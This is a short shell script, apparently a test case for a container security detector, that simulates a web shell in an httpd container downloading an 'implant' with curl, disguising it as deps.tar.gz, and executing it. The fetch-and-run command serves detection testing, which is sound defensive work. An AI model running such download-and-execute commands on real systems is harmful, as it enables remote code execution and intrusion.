#!/bin/sh
# malicious: a web shell downloads a file with curl -o in a service container and runs it (httpd -> sh -c)
# container
. "$(dirname "$0")/../../lib.sh"
ctr_app httpd "curl -sf -o /tmp/deps.tar.gz $URL/implant && chmod +x /tmp/deps.tar.gz && /tmp/deps.tar.gz"
